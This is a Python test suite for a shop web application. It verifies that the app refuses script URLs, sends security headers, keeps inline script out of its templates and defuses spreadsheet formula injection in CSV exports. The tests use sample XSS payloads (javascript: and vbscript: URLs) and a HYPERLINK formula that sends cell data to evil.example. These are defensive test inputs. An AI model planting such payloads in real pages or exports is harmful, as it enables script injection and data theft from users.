"""Rendering safety over the real server: hostile URLs refused at intake and dropped at
render, security headers on every HTML response, no inline script in any template, and
CSV exports whose text cells cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from decimal import Decimal, InvalidOperation
from pathlib import Path

import httpx
import pyarrow as pa

from mercato.catalog.models import Product, UgcItem
from mercato.core.scopes import Scope
from mercato.galleries.shop import create_shop_page
from mercato.runtime import Services
from mercato.warehouse.loader import load
from tests.galleries.support import make_shop
from tests.support.brands import Brand, make_token

SCRIPT_URL = "javascript:alert(document.domain)//"
TEMPLATE_DIRS = [
    Path(__file__).parents[2] / "src/mercato/web/templates",
    Path(__file__).parents[2] / "src/mercato/galleries/templates",
]


def _client(live_server: str, token: str) -> httpx.Client:
    return httpx.Client(
        base_url=live_server, headers={"Authorization": f"Bearer {token}"}, timeout=60
    )


def test_imports_and_settings_refuse_script_urls_naming_where(
    services: Services, brand: Brand, live_server: str
) -> None:
    token = make_token(services, brand, [Scope.IMPORTS_WRITE, Scope.UGC_WRITE, Scope.ADMIN])
    products = (
        "sku,name,cost,link,picture\r\n"
        "DR-1,Dress,49.00,https://shop.example/products/dr-1,https://cdn.example/dr-1.jpg\r\n"
        f"BT-9,Boots,59.00,{SCRIPT_URL},https://cdn.example/bt-9.jpg\r\n"
    )
    mapping = '{"sku":"sku","title":"name","price":"cost","url":"link","image_url":"picture"}'
    shopify = "Handle,Title,Variant SKU,Variant Price,Image Src\r\nboots,Boots,BT-9,59,data:x\r\n"
    with _client(live_server, token) as client:
        generic = client.post(
            "/api/v1/imports/products-csv",
            files={"files": ("products.csv", products.encode())},
            data={"mapping": mapping},
        )
        image = client.post(
            "/api/v1/imports/products-shopify", files={"files": ("shop.csv", shopify.encode())}
        )
        shop_url = client.post(
            "/api/v1/imports/products-shopify",
            files={"files": ("shop.csv", shopify.replace("data:x", "").encode())},
            data={"shop_url": "javascript:alert(1)//"},
        )
        terms = client.put("/api/v1/ugc/settings", json={"terms_url": SCRIPT_URL})
        benchmark = client.put(
            "/api/v1/kpi-benchmarks",
            json={"kpi_id": "conversion_rate", "value": 0.02, "method": "m", "source": "s",
                  "url": "vbscript:msgbox(1)"},
        )  # fmt: skip
        post_url = client.post("/api/v1/ugc/urls", json={"url": SCRIPT_URL})
    assert generic.status_code == 422, generic.text
    assert generic.json()["error"]["location"] == "products.csv:3:link"
    assert "is not an http(s) URL" in generic.json()["error"]["message"]
    assert image.json()["error"]["location"] == "shop.csv:2:Image Src"
    assert shop_url.json()["error"]["location"] == "shop_url"
    assert terms.status_code == 422
    assert terms.json()["error"]["location"] == "terms_url"
    assert benchmark.json()["error"]["location"] == "benchmark.url"
    assert post_url.status_code == 422
    assert post_url.json()["error"]["location"] == "url"
    with services.catalog.session() as session:
        assert session.query(Product).count() == 0  # the refused file stored nothing


def test_stored_script_urls_never_reach_a_public_page(services: Services, live_server: str) -> None:
    """Rows stored before the intake check (or written around it) are dropped at render."""
    shop = make_shop(services)
    with services.catalog.session() as session:
        for product in session.query(Product):
            product.url, product.image_url = SCRIPT_URL, "javascript:alert(2)"
        for item in session.query(UgcItem):
            item.permalink = " JaVaScRiPt:alert(3)"
        create_shop_page(session, shop.brand.workspace_id, shop.account_id, "acme")
    with httpx.Client(base_url=live_server, timeout=60) as client:
        data = client.get(f"/g/{shop.home}.json").json()
        fragment = client.get(f"/g/{shop.home}.html").text
        shop_page = client.get("/shop/acme").text
    cards = [card for item in data["items"] for card in item["products"]]
    assert cards
    assert all(c["url"] is None and c["image"] is None for c in cards)
    assert all(item["permalink"] is None for item in data["items"])
    for body in (fragment, shop_page):
        assert "javascript:" not in body.lower()
    assert 'href="#"' in fragment  # the product is still listed, without the link


def test_every_html_response_carries_the_security_headers(
    services: Services, live_server: str
) -> None:
    shop = make_shop(services, origin="http://shop.example:8080")
    with httpx.Client(base_url=live_server, timeout=60) as client:
        first, second = client.get("/login"), client.get("/login")
        missing = client.get("/nowhere", headers={"Accept": "text/html"})
        fragment = client.get(f"/g/{shop.home}.html")
        data = client.get(f"/g/{shop.home}.json")
        api_docs = client.get("/api/v1/docs")
    policy = first.headers["content-security-policy"]
    nonce = re.search(r"'nonce-([^']+)'", policy)
    assert nonce
    assert nonce.group(1) != _nonce_of(second.headers["content-security-policy"])
    assert "'unsafe-inline'" not in policy
    assert "'unsafe-eval'" not in policy
    assert "frame-ancestors 'none'" in policy
    assert "object-src 'none'" in policy
    assert first.headers["x-frame-options"] == "DENY"
    assert first.headers["x-content-type-options"] == "nosniff"
    assert first.headers["referrer-policy"] == "strict-origin-when-cross-origin"
    assert missing.headers["x-content-type-options"] == "nosniff"
    framing = fragment.headers["content-security-policy"]
    assert "frame-ancestors 'self' http://shop.example:8080" in framing
    assert "script-src" not in framing
    assert "default-src 'none'" in framing
    assert "x-frame-options" not in fragment.headers  # it may be framed by the shop
    assert data.headers["x-content-type-options"] == "nosniff"
    docs_policy = api_docs.headers["content-security-policy"]
    assert "script-src 'self'" in docs_policy  # the docs' assets ship with the app (offline)
    assert "http" not in docs_policy  # no CDN or other host
    assert api_docs.headers["x-frame-options"] == "DENY"


def _nonce_of(policy: str) -> str:
    found = re.search(r"'nonce-([^']+)'", policy)
    assert found
    return found.group(1)


def test_templates_carry_no_inline_script_handler_or_style_attribute() -> None:
    for folder in TEMPLATE_DIRS:
        for template in folder.glob("*.html"):
            text = template.read_text()
            assert not re.search(r"\son[a-z]+\s*=", text), f"{template.name}: inline handler"
            assert not re.search(r"\sstyle\s*=", text), f"{template.name}: style attribute"
            for tag in re.findall(r"<script[^>]*>", text):
                data_block = re.search(r'type="application/(ld\+)?json"', tag)
                assert data_block or "src=" in tag, f"{template.name}: inline {tag}"
            for tag in re.findall(r"<style[^>]*>", text):
                assert 'nonce="{{ csp_nonce }}"' in tag, f"{template.name}: {tag}"


HOSTILE_CAMPAIGN = '=HYPERLINK("http://evil.example/?"&A1,"Click for the report")'


def _campaign_sessions(services: Services, brand: Brand) -> None:
    """Two campaigns; the visitor-named one sells less this week than last (negative deltas)."""
    start = datetime(2026, 3, 2, 9, 30, 15, 123456)
    rows = [
        (f"s{i}", start + timedelta(days=day, minutes=i), campaign)
        for i, (day, campaign) in enumerate(
            [(-7, HOSTILE_CAMPAIGN)] * 3 + [(0, HOSTILE_CAMPAIGN)] + [(0, "spring-sale")] * 2
        )
    ]
    load(
        services.warehouse,
        "sessions",
        pa.table(
            {
                "workspace_id": [brand.workspace_id] * len(rows),
                "session_id": [r[0] for r in rows],
                "started_at": [r[1] for r in rows],
                "channel": ["Paid Social"] * len(rows),
                "campaign": [r[2] for r in rows],
            }
        ),
    )


def test_kpi_csv_defuses_a_visitors_campaign_and_keeps_numbers(
    services: Services, brand: Brand, live_server: str
) -> None:
    _campaign_sessions(services, brand)
    token = make_token(services, brand, [Scope.ANALYTICS_READ])
    params = {"start": "2026-03-02", "end": "2026-03-08", "compare": "previous"}
    with _client(live_server, token) as client:
        reply = client.get(
            "/api/v1/kpis", params={**params, "by": "campaign", "format": "csv", "kpi": "sessions"}
        )
    assert reply.status_code == 200, reply.text
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    hostile = next(r for r in rows if "HYPERLINK" in r["campaign"])
    assert hostile["campaign"] == "'" + HOSTILE_CAMPAIGN
    assert Decimal(hostile["delta"]) == -2  # 1 session against 3: a number, not text
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True
